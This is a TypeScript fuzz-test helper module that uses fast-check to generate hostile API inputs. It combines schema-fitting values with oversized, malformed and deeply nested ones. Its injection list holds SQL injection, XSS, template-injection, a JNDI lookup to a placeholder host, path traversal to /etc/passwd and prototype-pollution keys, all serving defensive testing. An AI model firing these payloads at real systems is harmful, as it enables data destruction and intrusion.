import fc from "fast-check";

/** Generators of hostile input for the API fuzz tests: wrong types, huge values, unicode, deep nesting, injection. */

export const INJECTION_STRINGS = [
  "' OR '1'='1",
  "'; DROP TABLE devices; --",
  '"); DELETE FROM users; --',
  "1; SELECT pg_sleep(10)",
  "<script>alert(document.cookie)</script>",
  "<img src=x onerror=alert(1)>",
  "{{7*7}}" + "$" + "{7*7}", // template-injection probes, spelled out so they stay literal
  "$" + "{jndi:ldap://evil/x}",
  "../../../../etc/passwd",
  "%00%2e%2e%2f",
  "\u0000",
  "\u202e\u0000\uffff",
  "\ud800",
  "𝕳𝖔𝖒𝖊𝖕𝖔𝖙 🧾🛒",
  "NaN",
  "Infinity",
  "-0",
  "1e309",
  "9999999999999999999999",
  "true",
  "null",
  "[]",
  "{}",
  "",
  " ",
  "__proto__",
  "constructor",
];

const huge = (n: number) => fc.constantFrom("a".repeat(n), "🙂".repeat(Math.ceil(n / 2)), "9".repeat(n));

export const nastyString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...INJECTION_STRINGS) },
  { weight: 3, arbitrary: fc.string({ unit: "grapheme", maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
  { weight: 1, arbitrary: huge(300) },
  { weight: 1, arbitrary: huge(70_000) },
  { weight: 2, arbitrary: fc.date({ noInvalidDate: true }).map((d) => d.toISOString()) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      "2026-13-45",
      "2026-02-30T25:61:61Z",
      "0000-00-00",
      "-271821-04-20T00:00:00Z",
      "275760-09-13T00:00:01Z",
    ),
  },
);

export const nastyNumber: fc.Arbitrary<number> = fc.oneof(
  fc.integer(),
  fc.constantFrom(
    0,
    -1,
    1,
    2 ** 31,
    -(2 ** 31) - 1,
    2 ** 53,
    Number.MAX_SAFE_INTEGER + 2,
    -1e308,
    1e308,
    0.5,
    -0.000001,
    1e-320,
  ),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** Deeply nested arrays/objects (a few hundred levels), which must not blow the stack. */
export const deepNesting: fc.Arbitrary<unknown> = fc.integer({ min: 50, max: 2000 }).chain((depth) =>
  fc.boolean().map((asArray) => {
    let v: unknown = "bottom";
    for (let i = 0; i < depth; i++) v = asArray ? [v] : { a: v };
    return v;
  }),
);

export const nastyValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: nastyString },
  { weight: 3, arbitrary: nastyNumber },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.array(nastyString, { maxLength: 5 }) },
  { weight: 1, arbitrary: fc.dictionary(nastyString, nastyString, { maxKeys: 4 }) },
  { weight: 1, arbitrary: deepNesting },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
);

type JsonSchema = {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  enum?: unknown[];
  minimum?: number;
  maximum?: number;
  minLength?: number;
  maxLength?: number;
  minItems?: number;
  maxItems?: number;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  format?: string;
  nullable?: boolean;
};

/** A value that fits the schema (so the request reaches the handler) — the fuzzer mixes these with nasty ones. */
export function plausible(schema: JsonSchema | undefined, depth = 0): fc.Arbitrary<unknown> {
  if (!schema || depth > 4) return nastyValue;
  const alt = schema.anyOf ?? schema.oneOf;
  if (alt && alt.length > 0) return fc.oneof(...alt.map((s) => plausible(s, depth + 1)));
  if (schema.enum && schema.enum.length > 0) return fc.constantFrom(...schema.enum);
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  switch (type) {
    case "integer":
      return fc.integer({ min: Math.ceil(schema.minimum ?? -1000), max: Math.floor(schema.maximum ?? 100_000) });
    case "number":
      return fc.double({
        min: schema.minimum ?? -1000,
        max: schema.maximum ?? 100_000,
        noNaN: true,
        noDefaultInfinity: true,
      });
    case "boolean":
      return fc.boolean();
    case "string": {
      if (schema.format === "email") return fc.emailAddress();
      if (schema.format === "date-time")
        return fc
          .date({ min: new Date("2020-01-01"), max: new Date("2030-01-01"), noInvalidDate: true })
          .map((d) => d.toISOString());
      const min = schema.minLength ?? 0;
      const max = Math.max(min, Math.min(schema.maxLength ?? 40, 60));
      return fc.oneof(
        fc.string({ minLength: min, maxLength: max }),
        fc.constantFrom("pos-terminal-001", "site-001", "job-0000abcd", "reboot", "ping", "update_config"),
      );
    }
    case "array": {
      const maxItems = Math.min(schema.maxItems ?? 5, 5);
      return fc.array(plausible(schema.items, depth + 1), {
        minLength: Math.min(schema.minItems ?? 0, maxItems),
        maxLength: maxItems,
      });
    }
    default:
      return plausibleObject(schema, depth);
  }
}

function plausibleObject(schema: JsonSchema, depth: number): fc.Arbitrary<unknown> {
  const props = Object.entries(schema.properties ?? {});
  if (props.length === 0) return fc.dictionary(fc.string({ maxLength: 10 }), nastyValue, { maxKeys: 3 });
  const record: Record<string, fc.Arbitrary<unknown>> = {};
  for (const [name, sub] of props) {
    // Mostly a fitting value, sometimes a hostile one in the same field.
    record[name] = fc.oneof({ weight: 4, arbitrary: plausible(sub, depth + 1) }, { weight: 1, arbitrary: nastyValue });
  }
  // Fields may go missing (required ones too), and unknown fields appear.
  return fc
    .tuple(
      fc.record(record, { requiredKeys: [] }),
      fc.dictionary(fc.constantFrom("__proto__", "constructor", "extra", "id", "is_admin", "role"), nastyValue, {
        maxKeys: 2,
      }),
    )
    .map(([known, extra]) => ({ ...extra, ...known }));
}

export type { JsonSchema };
